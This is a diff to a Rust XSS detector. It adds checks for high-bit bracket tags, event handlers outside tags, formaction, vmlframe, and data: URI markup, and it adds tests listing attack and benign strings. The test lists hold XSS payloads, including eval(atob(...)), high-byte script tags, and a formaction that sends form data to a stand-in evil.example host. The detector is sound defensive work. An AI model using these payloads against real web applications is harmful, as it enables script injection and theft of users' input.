@@ -22,6 +22,7 @@ const DANGEROUS_TAGS: &[&[u8]] = &[
     b"xss",
     b"isindex",
     b"style",
+    b"vmlframe",
 ];
 
 /// Attributes whose value is a URL a browser may navigate to or load.
@@ -41,19 +42,76 @@ const URL_ATTRS: &[&[u8]] = &[
 ];
 
 /// What a value must hold for `xss` to flag it, as sets of bytes of which it needs all
-/// of one set: a scheme's `:`, a tag's `<`, or a quote with an `=` after it to break out
-/// of an attribute into a handler. The engine skips the detector otherwise, so prose
-/// with apostrophes and no `=` costs nothing here.
-pub(crate) const XSS_NEEDS: &[&[u8]] = &[b":", b"<", b"\"=", b"'="];
+/// of one set: a scheme's `:`, a tag's `<` (or the `0xBC` that becomes one when the high
+/// bit is dropped), a quote or whitespace with an `=` after it to break out of an
+/// attribute into a handler, or a handler assigned a call. The engine skips the detector
+/// otherwise, so prose with apostrophes and no `=` costs nothing here.
+pub(crate) const XSS_NEEDS: &[&[u8]] = &[b":", b"<", b"\"=", b"'=", b" =", b"=(", b"=`", b"\xbc"];
+
+/// Event names (after `on`) of handlers that run script on their own: outside a tag an
+/// `on...=` is judged by them, as `online=` or `onset=` in a query or formula is none.
+const EVENT_ROOTS: &[&[u8]] = &[
+    b"abort",
+    b"animation",
+    b"auxclick",
+    b"before",
+    b"begin",
+    b"blur",
+    b"can",
+    b"change",
+    b"click",
+    b"close",
+    b"contextmenu",
+    b"copy",
+    b"cut",
+    b"dblclick",
+    b"drag",
+    b"drop",
+    b"end",
+    b"error",
+    b"focus",
+    b"hashchange",
+    b"input",
+    b"invalid",
+    b"key",
+    b"load",
+    b"message",
+    b"mouse",
+    b"page",
+    b"paste",
+    b"play",
+    b"pointer",
+    b"popstate",
+    b"progress",
+    b"reset",
+    b"resize",
+    b"scroll",
+    b"search",
+    b"select",
+    b"show",
+    b"start",
+    b"submit",
+    b"toggle",
+    b"touch",
+    b"transition",
+    b"unload",
+    b"wheel",
+];
 
 /// Returns the span of the first executable fragment, if any.
 pub(crate) fn xss(v: &[u8]) -> Option<(usize, usize)> {
     if let Some(end) = script_url(v) {
         return Some((0, end));
     }
-    // Without a `<` there is no tag, and without an `=` no attribute that runs script:
-    // prose (a colon, apostrophes) costs one search.
-    memchr::memchr2(b'<', b'=', v)?;
+    // Without a `<` (or `0xBC`) there is no tag, and without an `=` no attribute that runs
+    // script: prose (a colon, apostrophes) costs one search.
+    memchr::memchr3(b'<', b'=', 0xbc, v)?;
+    if let Some(span) = high_bit_tag(v) {
+        return Some(span);
+    }
+    if let Some(span) = handler_assignment(v) {
+        return Some(span);
+    }
     // Every attribute that runs script has a value, so a quote after the last `=` cannot
     // break out into one.
     let last_equals = memchr::memrchr(b'=', v);
@@ -91,9 +149,7 @@ fn script_url(v: &[u8]) -> Option<usize> {
                 return None;
             }
             if scheme == b"data" {
-                let rest = v[i + 1..].trim_ascii_start();
-                let is_html = rest.len() >= 9 && rest[..9].eq_ignore_ascii_case(b"text/html");
-                return is_html.then_some(i + 1);
+                return data_is_markup(&v[i + 1..]).then_some(i + 1);
             }
             return Some(i + 1);
         }
@@ -114,6 +170,138 @@ fn script_url(v: &[u8]) -> Option<usize> {
     None
 }
 
+/// Media types of `data:` URIs that a browser navigates to as a page running script.
+/// SVG and XML are left out: icons and uploads travel as `data:image/svg+xml` and
+/// `data:application/xml`, and their script shows as markup the tag scan judges.
+const MARKUP_TYPES: &[&[u8]] = &[b"text/html", b"application/xhtml+xml"];
+
+/// After `data:`: a page type, or no type at all (`data:,<x>`, left to sniffing) with a
+/// tag in the payload; images and text pass.
+fn data_is_markup(rest: &[u8]) -> bool {
+    let rest = rest.trim_ascii_start();
+    if MARKUP_TYPES
+        .iter()
+        .any(|t| rest.len() >= t.len() && rest[..t.len()].eq_ignore_ascii_case(t))
+    {
+        return true;
+    }
+    if !matches!(rest.first(), Some(b',' | b';')) {
+        return false;
+    }
+    let Some(comma) = memchr::memchr(b',', rest) else {
+        return false;
+    };
+    let payload = &rest[comma + 1..];
+    memchr::memchr_iter(b'<', payload)
+        .any(|lt| payload.get(lt + 1).is_some_and(u8::is_ascii_alphabetic))
+}
+
+/// A dangerous element written with `0xBC` and `0xBE` for its brackets: with the high bit
+/// dropped (US-ASCII decoders that ignore it, old IE) `¼script¾...¼/script¾` is
+/// `<script>...</script>`, in Latin-1, UTF-8 (`C2 BC`) or any other encoding whose bytes
+/// end in `BC`/`BE`. Text in other scripts ends many letters in those bytes (Cyrillic `м`
+/// and `о`, German `ü`, Greek `μ`), so it counts only as a pair: the opening tag and,
+/// after it, the end tag of the same name, complete.
+fn high_bit_tag(v: &[u8]) -> Option<(usize, usize)> {
+    // An element not closed after its first opening is not closed after a later one, so
+    // each name's end tag is searched for once and the scan stays linear.
+    const _: () = assert!(DANGEROUS_TAGS.len() <= 32, "one bit per name");
+    let mut unclosed = 0u32;
+    for lt in memchr::memchr_iter(0xbc, v) {
+        let name_len = v[lt + 1..]
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric())
+            .count();
+        let end = lt + 1 + name_len;
+        let name = &v[lt + 1..end];
+        let Some(k) = DANGEROUS_TAGS
+            .iter()
+            .position(|t| t.eq_ignore_ascii_case(name))
+        else {
+            continue;
+        };
+        if unclosed & (1 << k) != 0 {
+            continue;
+        }
+        let closed = memchr::memmem::find_iter(&v[end..], b"\xbc/").any(|c| {
+            let rest = &v[end + c + 2..];
+            rest.len() > name.len()
+                && rest[..name.len()].eq_ignore_ascii_case(name)
+                && match rest[name.len()..] {
+                    [0xbe, ..] => true,
+                    [high, 0xbe, ..] => high >= 0x80,
+                    _ => false,
+                }
+        });
+        if closed {
+            return Some((lt, end));
+        }
+        unclosed |= 1 << k;
+    }
+    None
+}
+
+/// An event handler assigned outside any tag. After leading whitespace it is one
+/// whatever its name: an unquoted attribute value ends at the space and the handler
+/// starts (`<input value= onx=...>`). After another separator (`; onload=`, `/onfocus=`)
+/// or at the start, a known event's handler assigned a call (`alert(1)`, ``eval`x` ``).
+fn handler_assignment(v: &[u8]) -> Option<(usize, usize)> {
+    let leading = v.iter().take_while(|b| b.is_ascii_whitespace()).count();
+    for eq in memchr::memchr_iter(b'=', v) {
+        let mut end = eq;
+        while end > 0 && v[end - 1].is_ascii_whitespace() {
+            end -= 1;
+        }
+        let mut start = end;
+        while start > 0 && v[start - 1].is_ascii_alphabetic() {
+            start -= 1;
+        }
+        let name = &v[start..end];
+        if !is_event_handler(name) {
+            continue;
+        }
+        if start > 0 && start == leading {
+            return Some((start, eq + 1));
+        }
+        let separated = start == 0
+            || matches!(v[start - 1], b';' | b'/' | b',' | b'(')
+            || v[start - 1].is_ascii_whitespace();
+        let event = &name[2..];
+        if separated
+            && EVENT_ROOTS
+                .iter()
+                .any(|r| event.len() >= r.len() && event[..r.len()].eq_ignore_ascii_case(r))
+        {
+            if let Some(call) = called(v, eq + 1) {
+                return Some((start, call));
+            }
+        }
+    }
+    None
+}
+
+/// A handler value that calls something: a name or member chain followed by `(` or a
+/// template literal, optionally quoted. Returns the end of the call's opening.
+fn called(v: &[u8], mut i: usize) -> Option<usize> {
+    while i < v.len() && v[i].is_ascii_whitespace() {
+        i += 1;
+    }
+    if matches!(v.get(i), Some(b'"' | b'\'')) {
+        i += 1;
+    }
+    let first = *v.get(i)?;
+    if !(first.is_ascii_alphabetic() || first == b'_' || first == b'$') {
+        return None;
+    }
+    while i < v.len() && (v[i].is_ascii_alphanumeric() || matches!(v[i], b'_' | b'$' | b'.')) {
+        i += 1;
+    }
+    while i < v.len() && v[i].is_ascii_whitespace() {
+        i += 1;
+    }
+    matches!(v.get(i), Some(b'(' | b'`')).then_some(i + 1)
+}
+
 /// Parses a tag at `v[lt] == b'<'`; returns the end of the dangerous part.
 fn tag(v: &[u8], lt: usize) -> Option<usize> {
     let mut i = lt + 1;
@@ -125,7 +313,9 @@ fn tag(v: &[u8], lt: usize) -> Option<usize> {
         i += 1;
     }
     let name = &v[name_start..i];
-    if name.is_empty() || !name[0].is_ascii_alphabetic() {
+    // An empty namespace prefix (`<:vmlframe`) names the element as well as `<v:vmlframe`.
+    let unprefixed = name.strip_prefix(b":").unwrap_or(name);
+    if unprefixed.is_empty() || !unprefixed[0].is_ascii_alphabetic() {
         return None;
     }
     // A namespace prefix (`<x:script xmlns:x="http://www.w3.org/1999/xhtml">`) still
@@ -196,6 +386,11 @@ fn attributes(v: &[u8], mut i: usize, max: usize) -> Option<usize> {
         if assigned && is_event_handler(name) {
             return Some(i);
         }
+        // `formaction` sends the form, with what the user typed, wherever it points,
+        // `javascript:` or not.
+        if assigned && name.eq_ignore_ascii_case(b"formaction") {
+            return Some(i);
+        }
         // A URL or style attribute is dangerous only through its value: test the value
         // first, as prose after a quote has words without values.
         if !value.is_empty()
@@ -214,8 +409,12 @@ fn attributes(v: &[u8], mut i: usize, max: usize) -> Option<usize> {
     None
 }
 
+/// No DOM event is named with more letters than this (the longest are about forty).
+const EVENT_NAME_MAX: usize = 50;
+
 fn is_event_handler(name: &[u8]) -> bool {
     name.len() > 4
+        && name.len() - 2 <= EVENT_NAME_MAX
         && name[..2].eq_ignore_ascii_case(b"on")
         && name[2..].iter().all(u8::is_ascii_alphabetic)
 }
@@ -257,7 +456,7 @@ mod tests {
     #[test]
     fn every_flagged_value_holds_what_the_engine_gate_asks_for() {
         let gate = Gate::any_of(XSS_NEEDS.iter().map(|&n| of_literal(n)));
-        let parts: [&[u8]; 14] = [
+        let parts: [&[u8]; 15] = [
             b"<",
             b"svg",
             b">",
@@ -272,6 +471,7 @@ mod tests {
             b" ",
             b"(",
             b"/",
+            b"\xbc",
         ];
         let mut value = Vec::new();
         let mut flagged = 0;
@@ -317,8 +517,50 @@ mod tests {
             "x\"onzoom=alert(1)",
             "<svg onload = alert(1)>",
             "<STYLE>@import'http://evil/x.css';</STYLE>",
+            "  onanything= ",
+            "\tonxyz=1",
+            "Test/1.0 (compatible; onload=alert(document.domain))",
+            "q=test;onfocus=eval(atob('YWxlcnQoMSk='))",
+            "x onmouseover=alert`1`",
+            "onerror=top.alert(1)",
+            "a/onpointerdown='confirm(1)'",
+            "'formaction=",
+            "\" formaction=//evil.example/steal x=\"",
+            "<:vmlframe src=",
+            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
+            " data: , <x>",
+            "data:image/svg+xml,<svg onload=alert(1)>",
+            "data:application/xhtml+xml;base64,PGh0bWw+",
+            "data:;charset=utf-8,<b>x</b>",
         ] {
             assert!(xss(attack.as_bytes()).is_some(), "missed {attack:?}");
+        }
+    }
+
+    #[test]
+    fn flags_tags_whose_bracket_is_a_high_byte() {
+        for attack in [
+            &b"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe"[..],
+            b"\xc2\xbcscript\xc2\xbealert(1)\xc2\xbc/SCRIPT\xc2\xbe",
+            b"\xd0\xbcscript\xd0\xbe\xd0\xbc/script\xd0\xbe",
+            b"\xc2\xbcIFRAME src=//evil\xc2\xbe\xc2\xbc/iframe\xc2\xbe",
+        ] {
+            assert!(xss(attack).is_some(), "missed {attack:?}");
+        }
+        for benign in [
+            "sitzbez\u{c3}\u{bc}ge > fu\u{df}matten",
+            "f\u{fc}r die \u{dc}bersicht, bitte",
+            "\u{43c}\u{43e}\u{441}\u{43a}\u{432}\u{430}, 60 \u{43a}\u{43c}/\u{447} <= 90 \u{43a}\u{43c}/\u{447}",
+            "\u{bc} cup sugar and \u{be} cup flour",
+            "\u{bc}in to \u{be}in bolts",
+            "5\u{3bc}s latency",
+            "\u{9c}script \u{bc}alert(1);\u{bc}/script\u{9e}",
+            "\u{bc}script\u{be}alert(1)\u{bc}/script",
+            "\u{bc}script\u{be}alert(1)/script\u{be}",
+            "\u{bc}script\u{be}alert(1)\u{bc}/scripts\u{be}",
+            "\u{bc}script \u{bc}script \u{bc}iframe\u{be} \u{bc}/x\u{be}",
+        ] {
+            assert!(xss(benign.as_bytes()).is_none(), "flagged {benign:?}");
         }
     }
 
@@ -336,6 +578,21 @@ mod tests {
             "It's \"one\" of them",
             "I'd shop online tonight",
             "it's <img onerror> without a handler body",
+            "level=info msg=started online=true",
+            "select * from users where online=now()",
+            "onset=date(2024)",
+            "btn.onclick=handle()",
+            "window.onload = init();",
+            "Button onClick={save} />",
+            "f(onSuccess={() => done()})",
+            "data:,Hello%2C%20World",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
+            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24'/></svg>",
+            "data:application/xml;base64,PD94bWwgdmVyc2lvbj0iMS4wIj8+",
+            "size 5 = 2 + 3",
+            "Use `onload=init()` in the body tag",
+            "  onthisisaverylongwordthathasmorethanfiftycharactersss= ",
         ] {
             assert!(xss(benign.as_bytes()).is_none(), "flagged {benign:?}");
         }
